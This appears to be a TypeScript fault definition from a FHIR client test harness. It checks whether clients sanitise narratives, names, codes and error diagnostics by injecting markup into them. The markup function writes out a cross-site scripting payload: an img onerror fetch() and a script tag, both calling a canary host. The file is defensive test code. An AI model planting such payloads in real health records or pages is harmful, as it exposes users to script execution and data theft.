import { z } from 'zod'
import { defineFault } from '../../core/declare/fault.ts'
import { fhirPage } from '../../core/declare/spec.ts'
import { createOutcomeReply } from '../../core/http/create-outcome-reply.ts'
import type { Json, JsonObject } from '../../core/util/json.ts'
import { avoidsCanary } from '../../expectations/index.ts'

export const scriptInText = defineFault({
  name: 'script-in-text',
  title: 'HTML and script in text',
  kind: 'must-not-leak',
  catalogueIds: ['F-268'],
  spec: fhirPage('security', 'narrative'),
  description:
    'The narrative, a name, the text of a code or the diagnostics of an error contains markup that loads an image from another host and runs a script.',
  requirement: 'Show text as text, and sanitise narratives: load and run nothing from them.',
  steps: ['fhir-read', 'fhir-search'],
  params: () =>
    z.strictObject({
      where: z
        .enum(['narrative', 'name', 'code', 'diagnostics'])
        .default('narrative')
        .describe('Where the markup is.'),
    }),
  points: {
    arrival: (value, { params, canary }) =>
      params.where === 'diagnostics' ? createOutcomeReply(400, 'invalid', markup(canary.base)) : value,
    'fhir.reply': (answer, { params, canary }) =>
      params.where === 'diagnostics' || answer.status !== 200 || !answer.body
        ? answer
        : { ...answer, body: everywhere(answer.body, params.where, markup(canary.base)) },
  },
  expects: avoidsCanary(),
})

function markup(base: string): string {
  return `<img src="${base}/picture" onerror="fetch('${base}/script')"><script src="${base}/script.js"></script>`
}

/** Inserts the markup into the resource, or into every resource of a Bundle. */
function everywhere(resource: JsonObject, where: 'narrative' | 'name' | 'code', text: string): JsonObject {
  const entries = resource.entry as readonly JsonObject[] | undefined
  if (resource.resourceType === 'Bundle') {
    const entry = entries?.map((each) => ({
      ...each,
      resource: everywhere(each.resource as JsonObject, where, text),
    }))
    return entry === undefined ? resource : { ...resource, entry: entry as Json }
  }
  if (where === 'narrative') {
    const div = `<div xmlns="http://www.w3.org/1999/xhtml">${text}</div>`
    return { ...resource, text: { status: 'generated', div } }
  }
  if (where === 'name') return 'name' in resource ? { ...resource, name: [{ text, family: text }] } : resource
  return 'code' in resource ? { ...resource, code: { text, coding: [{ display: text }] } } : resource
}
